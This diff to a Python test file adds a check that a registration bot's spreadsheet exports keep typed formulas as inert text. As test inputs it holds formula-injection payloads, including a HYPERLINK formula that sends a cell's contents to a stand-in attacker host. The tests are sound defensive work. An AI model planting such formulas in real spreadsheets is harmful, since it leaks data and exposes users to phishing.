@@ -26,8 +26,15 @@ from bot.channels.web import render_page
 from handlers.engine.flow import EngineConfig
 from handlers.engine.runner import Engine
 from handlers.flows import build_engine
-from storage.exporters import registration_rows, write_csv, write_xlsx
+from storage.exporters import (
+    guard_formula,
+    registration_rows,
+    unguard_formula,
+    write_csv,
+    write_xlsx,
+)
 from storage.models import Initiative, Person, Registration
+from storage.registration_forms import build_form, write_form_xlsx, write_sheet_csv
 from tests.chat import Chat
 from tests.factories import Org, make_org
 from tests.fakes import DEFAULT_TOKEN, FakeBotAPI, TgUser
@@ -205,3 +212,37 @@ async def test_spreadsheets_keep_a_leading_equals_sign_as_text(
     write_csv(rows, out)
     [_header, record] = list(csv.reader(io.StringIO(out.getvalue())))
     assert "'" + '=HYPERLINK("http://evil.example/?"&A1;"Bấm")' in record
+
+
+async def test_the_officers_form_keeps_a_typed_formula_as_text(
+    sessionmaker: Sessions, org: Org
+) -> None:
+    """The same for the familiar form (the /tonghop files and `thidua export`), with a name
+    typed in the chat; its CSV reads back as typed."""
+    evil = '=HYPERLINK("http://evil.example";"Xem")'
+    async with sessionmaker() as session, session.begin():
+        session.add(
+            Initiative(
+                receipt_no="TD2027-000009",
+                campaign_id=org.campaign.id,
+                person_id=org.rostered.id,
+                unit_id=org.garment.id,
+                name=evil,
+                field="tech",
+            )
+        )
+    async with sessionmaker() as session:
+        form = await build_form(session, "TD2027", None, "initiatives")
+    buffer = io.BytesIO()
+    write_form_xlsx(form, buffer)
+    workbook = load_workbook(io.BytesIO(buffer.getvalue()))
+    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
+    named = [c for c in cells if c.value == evil]
+    assert named and all(c.data_type == "s" for c in named)
+    out = io.StringIO()
+    write_sheet_csv(form.sheets[0], out)
+    assert "'" + evil in next(
+        r for r in csv.reader(io.StringIO(out.getvalue())) if evil in "".join(r)
+    )
+    for text in (evil, "+84 912", "-1", "@SUM(A1)", "Bình thường", "'=quoted", ""):
+        assert unguard_formula(guard_formula(text)) == text
